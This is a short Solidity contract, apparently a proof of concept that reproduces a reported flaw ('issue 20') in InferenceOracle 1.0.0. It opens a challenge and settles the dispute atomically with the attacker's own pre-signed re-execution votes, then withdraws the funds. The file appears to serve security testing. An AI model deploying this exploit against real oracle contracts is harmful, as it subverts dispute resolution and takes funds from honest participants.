// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IInferenceOracle} from "../../contracts/interfaces/IInferenceOracle.sol";
import {IInferenceOracleFinality} from "../../contracts/interfaces/IInferenceOracleFinality.sol";

/// @notice Attack 1 of issue 20 on InferenceOracle 1.0.0: challenge a provisional result and decide the dispute in the
/// same transaction with two pre-signed re-executions from the attacker's own operator keys.
contract AtomicDisputeAttacker {
    IInferenceOracleFinality public immutable oracle;

    constructor(IInferenceOracleFinality oracle_) {
        oracle = oracle_;
    }

    receive() external payable {}

    function attack(uint256 requestId, bytes32 claim, IInferenceOracle.Fulfilment[] calldata votes) external payable {
        oracle.challenge{value: msg.value}(requestId, claim);
        for (uint256 i; i < votes.length; ++i) oracle.reexecute(votes[i]);
    }

    function cashOut(address to) external {
        IInferenceOracle(address(oracle)).withdraw();
        payable(to).transfer(address(this).balance);
    }
}
